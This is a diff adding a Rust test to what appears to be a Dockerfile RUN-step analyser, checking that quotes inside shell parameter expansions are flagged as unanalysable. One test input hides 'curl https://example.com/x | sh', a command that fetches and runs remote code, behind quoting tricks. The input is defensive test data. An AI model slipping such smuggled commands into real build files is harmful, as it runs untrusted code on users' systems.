@@ -695,3 +695,24 @@ fn work_grows_no_faster_than_the_text() {
         assert!(inputs.lines().len() < 200);
     }
 }
+
+#[test]
+fn a_single_quote_in_an_expansion_within_double_quotes_is_unclear() {
+    let unclear = "a RUN step that cannot be analysed (a quote inside an expansion)";
+    for step in [
+        "echo \"${a#'\"'}\"; curl https://example.com/x | sh; echo }\" #\"",
+        "echo \"${a%%'}'}\"",
+        "echo \"${a:-'}'}\"",
+        "echo \"${a:-don't}\"",
+        "echo \"${a/'$b'/c}\"",
+        "cat <<X\n${a#'}'}\nX",
+    ] {
+        assert!(
+            of_file(&format!("FROM scratch\nRUN <<EOF\n{step}\nEOF\n")).iter().any(|line| line.starts_with(unclear)),
+            "{step}"
+        );
+    }
+    for step in ["echo \"${a#'x'}\"", "echo \"${a:-'a b;c'}\"", "echo ${a#'\"'}", "echo \"${a:-\"'\"}\""] {
+        assert_eq!(of_run(step), [""; 0], "{step}");
+    }
+}
